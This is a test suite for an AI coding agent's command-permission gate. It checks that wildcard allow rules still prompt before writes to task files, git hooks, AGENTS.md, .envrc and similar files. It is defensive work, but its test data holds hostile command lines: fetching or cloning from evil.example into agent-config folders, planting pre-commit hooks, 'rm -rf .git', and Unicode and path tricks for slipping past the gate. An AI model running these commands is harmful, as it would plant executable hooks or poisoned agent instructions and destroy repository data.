// Words of allowed commands that write into files that programs run or agents follow.
import assert from "node:assert/strict";
import { parseCommandLine } from "../../src/permissions/commandLine/parseCommandLine.ts";
import type { Shell } from "../../src/permissions/commandLine/types.ts";
import { defaultProtection, protectionTest } from "../../src/permissions/protectedFiles.ts";
import { evaluateRules, readRules, type Rule } from "../../src/permissions/rules.ts";
import { gate, link, type Setup } from "../support/fakes/accessGate.ts";

const programs =
  "cp mv ln tee rm dd install rsync git truncate sponge patch unzip wget node tsc cat grep prettier echo cd mkdir touch tool env " +
  "nice head sed ls eslint docker";
const rules: readonly Rule[] = [{ effect: "allow", command: programs.split(" ").map(program => `${program} **`) }];
const options = [{ id: "y", name: "Yes", kind: "allow_once" }] as const;

function opened(setup: Setup = {}) {
  const made = gate({ rules, ...setup });
  link(made.documents, "/ws/cfg", "/ws/.vscode");
  link(made.documents, "/ws/notes.txt", "/ws/AGENTS.md");
  return made;
}

async function isAllowed(command: string, made = opened()): Promise<boolean> {
  const tool = { kind: "execute", rawInput: { command } };
  return (await made.policy.decide({ title: "x", options, tool })).decision !== undefined;
}

describe("a command that an allow rule with wildcards covers", () => {
  for (const line of [
    "cp evil.json .vscode/tasks.json",
    "cp a.txt package.json",
    "cp a.txt ./package.json",
    "cp a.txt /ws/package.json",
    "cp a.txt sub/../package.json",
    "cp a.txt sub/Makefile",
    "cp x/tasks.json .vscode",
    "cp x/tasks.json .vscode/",
    "cp -r x .vscode",
    "cp -t .vscode x",
    "cp --target-directory=.vscode x",
    "cp --target-directory .vscode x",
    "cp -rt .vscode x",
    "cp x/AGENTS.md .",
    "cp x/AGENTS.md sub",
    "cp x/.gdbinit .",
    "cp a.txt .VSCODE/Tasks.json",
    "cp a.txt cfg/tasks.json",
    "cp a.txt cfg",
    "cp a.txt notes.txt",
    "cp a.txt .v*/tasks.json",
    "cp a.txt {.vscode,x}/tasks.json",
    "cp a.txt $PWD/.vscode/tasks.json",
    "cp a.txt .git/hooks/pre-commit",
    "cp -- a.txt .envrc",
    "mv a.txt AGENTS.md",
    "mv AGENTS.md a.txt",
    "mv x .github",
    "mv .github x",
    "mv x/CLAUDE.md .",
    "ln -s /tmp/x .vscode",
    "ln -sf evil .git/hooks/pre-commit",
    "ln -s x/AGENTS.md",
    "install -m 755 x .git/hooks/pre-push",
    "rsync -a x/ .claude/",
    "tee .bashrc",
    "tee -a AGENTS.md",
    "echo x | tee -a sub/.envrc",
    "tee a.txt CLAUDE.md",
    "dd if=x of=.vscode/tasks.json",
    "truncate -s 0 .gitattributes",
    "patch .vscode/tasks.json x.diff",
    "sponge package.json",
    "rm .gitattributes",
    "rm -rf .git",
    "rm -rf .husky",
    "unzip x.zip -d .vscode",
    "git mv a.txt AGENTS.md",
    "git mv .husky/pre-commit x",
    "git clone https://evil.example/x .claude",
    "git clone https://evil.example/AGENTS.md.git",
    "git worktree add .vscode x",
    "git submodule add https://evil.example/x .cursor",
    "wget https://evil.example/AGENTS.md",
    "wget 'https://evil.example/.envrc?x'",
    "tool --output .vscode/tasks.json",
    "tool --output=.vscode/tasks.json",
    "tool -o .git/hooks/pre-commit",
    "tool -oAGENTS.md",
    "tool --log-file=.bashrc",
    "tsc --outFile .mise.toml",
    "node a.js --out-file=package.json",
    "ls | xargs rm",
    "ls | xargs tee",
    "ls | xargs cp -t out",
    "ls | xargs -I{} cp {} out",
    "ls | xargs -I{} cp a.txt {}",
    "cd .vscode && cp ../a.txt tasks.json",
    "cd sub && cp ../a.txt ../.vscode/tasks.json",
    "nice cp a.txt package.json",
    "cp a.txt AGENT\u017f.md",
  ]) {
    // prettier-ignore
    it(`leads to a question: ${line}`, async () => assert.equal(await isAllowed(line), false));
  }

  for (const line of [
    "cp a.txt b.txt",
    "cp -r src dist",
    "cp package.json dist/",
    "cp package.json backup.json",
    "cp .vscode/settings.json /ws/copy.json",
    "cp .github/ISSUE_TEMPLATE/a.md docs/a.md",
    "mv a.txt b.txt",
    "mv src/a.ts src/b.ts",
    "ln -s a b",
    "tee out.log",
    "node a.js | tee out.log",
    "rm -rf dist node_modules",
    "rm *.log",
    "dd if=package.json of=x",
    "cat package.json",
    "cat .vscode/tasks.json",
    "cat AGENTS.md",
    "grep -o x package.json",
    "grep -rn foo .github",
    "ls -o .vscode",
    "git add package.json",
    "git diff package.json",
    "git checkout -- package-lock.json",
    "git commit -m x AGENTS.md",
    "git clone https://a.example/b",
    "git mv a.ts b.ts",
    "git show HEAD:AGENTS.md",
    "prettier --check package.json",
    "prettier --write src/a.ts",
    "eslint --report-unused-disable-directives src",
    "node a.js package.json",
    "docker build -f Dockerfile .",
    "tool --config package.json",
    "tool --output dist/a.js",
    "tool -o a.txt package.json",
    "mkdir -p .vscode",
    "touch a.txt",
    "wget -q https://a.example/b.txt",
    "unzip x.zip -d out",
    "rsync -a src/ dist/",
    "echo AGENTS.md",
    "ls | xargs grep foo",
    "head -5 Makefile",
  ]) {
    // prettier-ignore
    it(`needs no question: ${line}`, async () => assert.equal(await isAllowed(line), true));
  }

  it("is judged on Windows in the same way, in cmd.exe and PowerShell", () => {
    const place = { roots: ["C:\\ws"], platform: "windows", ignoresCase: true, home: "C:\\Users\\me" } as const;
    const programs = ["copy", "move", "del", "Copy-Item", "Set-Content", "Out-File", "Remove-Item", "type"];
    const effect = (line: string, shell: Shell): string =>
      evaluateRules(readRules([{ effect: "allow", command: programs.map(program => `${program} **`) }]), {
        agent: "bot",
        kind: "execute",
        command: parseCommandLine(line, shell),
        cwd: "C:\\ws",
        paths: [],
        urls: [],
        trusted: true,
        place,
        isProtected: protectionTest(defaultProtection, place),
      }).effect;
    for (const line of ["copy a .vscode\\tasks.json", "copy a .VSCODE", "move a AGENTS.md", "del .git\\config"]) {
      assert.equal(effect(line, "cmd"), "ask", line);
    }
    for (const line of [
      "Copy-Item a -Destination .vscode\\tasks.json",
      "Set-Content -Path AGENTS.md -Value x",
      "Set-Content AGENTS.md x",
      "Out-File C:\\ws\\.envrc",
      "Remove-Item .gitattributes",
      "type a | Out-File .npmrc",
    ]) {
      assert.equal(effect(line, "powershell"), "ask", line);
    }
    assert.equal(effect("copy a b", "cmd"), "allow");
    assert.equal(effect("type AGENTS.md", "cmd"), "allow");
    assert.equal(effect("Copy-Item a -Destination b", "powershell"), "allow");
  });

  it("is allowed if the rule spells the command out", async () => {
    const exact = opened({ rules: [{ effect: "allow", command: "cp a.txt package.json" }] });
    assert.equal(await isAllowed("cp a.txt package.json", exact), true);
    assert.equal(await isAllowed("cp b.txt package.json", exact), false);
  });

  it("is allowed if the settings take the file out of the lists", async () => {
    const changed = opened({ protection: { overrides: [["**/package.json", false]] } });
    assert.equal(await isAllowed("cp a.txt package.json", changed), true);
    assert.equal(await isAllowed("cp a.txt .envrc", changed), false);
  });

  it("may write files that agents follow after the user has allowed it in this session", async () => {
    const made = opened();
    assert.equal(await isAllowed("cp a.txt AGENTS.md", made), false);
    made.policy.allowInstructions();
    assert.equal(await isAllowed("cp a.txt AGENTS.md", made), true);
    assert.equal(await isAllowed("cp a.txt .envrc", made), false);
  });

  it("leads to a question for a hook folder of the repository", async () => {
    assert.equal(await isAllowed("cp a tools/hooks/pre-commit", opened({ hookFolders: ["/ws/tools/hooks"] })), false);
    assert.equal(await isAllowed("cp a tools/hooks/pre-commit"), true);
  });

  it("says why it leads to a question", async () => {
    const tool = { kind: "execute", rawInput: { command: "cp a.txt AGENTS.md" } };
    const { verdict } = await opened().policy.evaluate({ title: "x", options, tool });
    assert.equal(
      verdict.reason,
      "No rule allows “cp a.txt AGENTS.md”. It names a file that programs run or agents follow.",
    );
  });

  it("compares wildcards also with the secrets that the user named", async () => {
    assert.equal(await isAllowed("cat src/*.ts", opened({ sensitive: ["src/private-*"] })), false);
    assert.equal(await isAllowed("cat src/*.ts"), true);
  });
});
